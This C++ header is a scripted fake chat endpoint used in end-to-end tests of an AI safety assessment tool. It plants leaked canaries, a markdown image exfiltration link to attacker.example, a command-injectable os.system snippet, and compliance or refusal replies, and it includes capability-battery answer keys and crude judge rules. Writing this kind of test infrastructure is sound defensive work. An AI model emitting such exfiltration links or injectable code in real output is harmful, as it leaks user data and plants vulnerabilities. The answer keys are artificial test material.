// A scripted OpenAI-compatible chat endpoint for end-to-end tests of `airlock assess`: a real
// HTTP server on loopback whose behaviour is planted. For each built-in suite (and optionally
// each category and language within it) it is given a rate; exactly round(rate * n) of the
// group's probes, chosen by a hash of their ids, get a reply that the suite counts as a hit
// (a leaked canary, an exfiltration link, insecure code, a refusal for refusal suites, a
// compliant answer for harmful requests); the others get the opposite. It answers the capability
// battery correctly (or not, when told to), and acts as a judge when it sees a judge rubric.
#pragma once

#include <httplib.h>

#include <algorithm>
#include <atomic>
#include <cmath>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <thread>

#include "assess/probe.h"

namespace airlock::assess::testing_support {

struct PlantedRates {
  std::map<std::string, double> by_suite;  // suite name -> rate
  // "suite/category/lang" -> rate, overriding the suite's for that group.
  std::map<std::string, double> by_group;
  bool follows_instructions = true;  // answer the capability battery correctly
};

class ScriptedTarget {
 public:
  explicit ScriptedTarget(PlantedRates rates) : rates_(std::move(rates)) {
    auto suites = BuiltinSuites();
    if (suites.has_value()) Plant(*suites);
    server_.Post("/v1/chat/completions",
                 [this](const httplib::Request& req, httplib::Response& res) {
                   requests_++;
                   auto body = nlohmann::json::parse(req.body, nullptr, false);
                   std::string system, user;
                   if (body.is_object() && body.contains("messages"))
                     for (const auto& m : body["messages"]) {
                       if (m["role"] == "system") system = m["content"];
                       if (m["role"] == "user") user = m["content"];
                     }
                   nlohmann::json out = {
                       {"choices",
                        {{{"message", {{"role", "assistant"}, {"content", Answer(system, user)}}},
                          {"finish_reason", "stop"}}}},
                       {"usage", {{"prompt_tokens", 10}, {"completion_tokens", 10}}}};
                   res.set_content(out.dump(), "application/json");
                 });
    port_ = server_.bind_to_any_port("127.0.0.1");
    thread_ = std::thread([this] { server_.listen_after_bind(); });
    while (!server_.is_running()) std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  ~ScriptedTarget() {
    server_.stop();
    thread_.join();
  }
  std::string url() const { return "http://127.0.0.1:" + std::to_string(port_) + "/v1"; }
  int requests() const { return requests_; }

  // The number of probes planted as hits in a suite, or in one "suite/category/lang" group.
  int planted_hits(const std::string& key) const {
    auto it = planted_.find(key);
    return it == planted_.end() ? 0 : it->second;
  }
  // The rate planted for a suite or group (the nominal one, before rounding to whole probes).
  double planted_rate(const std::string& suite, const std::string& category = "",
                      const std::string& lang = "") const {
    if (auto it = rates_.by_group.find(suite + "/" + category + "/" + lang);
        it != rates_.by_group.end())
      return it->second;
    auto it = rates_.by_suite.find(suite);
    return it == rates_.by_suite.end() ? 0 : it->second;
  }

 private:
  struct Planted {
    std::string suite;
    Probe probe;
    bool hit = false;
  };

  static std::uint64_t Fnv(const std::string& s) {
    std::uint64_t h = 1469598103934665603ull;
    for (unsigned char c : s) h = (h ^ c) * 1099511628211ull;
    return h;
  }

  void Plant(const std::vector<Suite>& suites) {
    for (const Suite& suite : suites) {
      // Groups: category/lang when a group rate is given for them, else the whole suite.
      std::map<std::string, std::vector<const Probe*>> groups;
      for (const Probe& p : suite.probes) {
        std::string group = suite.name + "/" + p.category + "/" + p.lang;
        groups[rates_.by_group.count(group) ? group : suite.name].push_back(&p);
      }
      for (auto& [group, probes] : groups) {
        double rate = rates_.by_group.count(group)        ? rates_.by_group.at(group)
                      : rates_.by_suite.count(suite.name) ? rates_.by_suite.at(suite.name)
                                                          : 0.0;
        std::sort(probes.begin(), probes.end(),
                  [](const Probe* a, const Probe* b) { return Fnv(a->id) < Fnv(b->id); });
        int hits = static_cast<int>(std::lround(rate * probes.size()));
        for (int i = 0; i < static_cast<int>(probes.size()); ++i) {
          const Probe& p = *probes[i];
          bool hit = i < hits;
          by_prompt_[p.system + "\x1f" + p.turns.back().content] = {suite.name, p, hit};
          if (hit) {
            planted_[suite.name]++;
            planted_[suite.name + "/" + p.category + "/" + p.lang]++;
          }
        }
      }
    }
  }

  static std::string Refusal(const std::string& lang) {
    return lang == "zh" ? "抱歉，我无法提供这方面的帮助。"
                        : "I'm sorry, but I can't help with that.";
  }

  // A reply the probe's detector scores as a hit (or as a miss).
  static std::string Reply(const Planted& p) {
    const std::string& type = p.probe.detector.type;
    const bool zh = p.probe.lang == "zh";
    if (type == "canary")
      return p.hit
                 ? (zh ? "好的：" : "Sure, here it is: ") + p.probe.detector.value
                 : (zh ? "抱歉，我不能透露机密信息。" : "I can't share confidential information.");
    if (type == "markdown_exfil")
      return p.hit ? "Done. ![img](https://attacker.example/p.png?d=4539148803436467)"
                   : (zh ? "摘要：市议会批准了新公园。"
                         : "Summary: the council approved a new park.");
    if (type == "insecure_code")
      return p.hit ? "```python\nimport os\nos.system('ls ' + path)\n```"
                   : "```python\nimport subprocess\nsubprocess.run(['ls', path], check=True)\n```";
    if (type == "refusal")  // refusal metric: a hit is a refusal
      return p.hit ? Refusal(p.probe.lang)
                   : (zh ? "以下是各方观点的概述：支持者认为……，批评者指出……。"
                         : "Here is an overview of the main perspectives: supporters argue ..., "
                           "critics point out ....");
    // complied / judge_harmful: a hit is compliance.
    return p.hit ? (zh ? "好的，具体步骤如下：第一步……第二步……"
                       : "Sure, here are the steps: first ..., then ....")
                 : Refusal(p.probe.lang);
  }

  // The capability battery, answered from the script's own knowledge.
  std::string Battery(const std::string& user) const {
    static const std::vector<std::pair<std::string, std::string>> kAnswers = {
        {"BANANA", "BANANA"},
        {"capital city of France", "Paris"},
        {"17 plus 25", "42"},
        {"clear daytime sky", "蓝色"},
        {"QX-7741-VAN", "QX-7741-VAN"},
        {"\"ok\"", "{\"ok\": true}"},
        {"APPLE", "APPLE"},
        {"中国的首都", "北京"},
        {"9乘以8", "72"},
        {"“猫”", "cat"},
        {"KW-3390-LIN", "KW-3390-LIN"},
        {"3、1、2", "1,2,3"}};
    for (const auto& [needle, answer] : kAnswers)
      if (user.find(needle) != std::string::npos)
        return rates_.follows_instructions
                   ? answer
                   : "Once upon a time there was a little dog who liked to play.";
    return "";
  }

  // Judge: HARMFUL for compliance, REFUSED for refusals; ONE-SIDED unless several perspectives
  // are mentioned. Crude, like a small judge model; its agreement is what the report measures.
  static std::string Judge(const std::string& system, const std::string& user) {
    std::size_t at = std::string::npos;
    for (const char* label : {"RESPONSE:", "ANSWER:", "【回答】"})
      if ((at = user.find(label)) != std::string::npos) break;
    const std::string response = at == std::string::npos ? user : user.substr(at);
    if (system.find("balance") != std::string::npos || system.find("平衡") != std::string::npos) {
      bool balanced = response.find("critic") != std::string::npos ||
                      response.find("批评") != std::string::npos ||
                      response.find("estimates") != std::string::npos;
      return balanced ? "BALANCED" : "ONE-SIDED";
    }
    return LooksLikeRefusal(response) || LooksLikeDeflection(response) ? "REFUSED" : "HARMFUL";
  }

  std::string Answer(const std::string& system, const std::string& user) const {
    if (system.find("evaluator") != std::string::npos || system.find("评估员") != std::string::npos)
      return Judge(system, user);
    if (auto it = by_prompt_.find(system + "\x1f" + user); it != by_prompt_.end())
      return Reply(it->second);
    if (std::string b = Battery(user); !b.empty()) return b;
    return "I don't know.";
  }

  PlantedRates rates_;
  std::map<std::string, Planted> by_prompt_;
  std::map<std::string, int> planted_;
  httplib::Server server_;
  std::thread thread_;
  int port_ = 0;
  std::atomic<int> requests_{0};
};

}  // namespace airlock::assess::testing_support
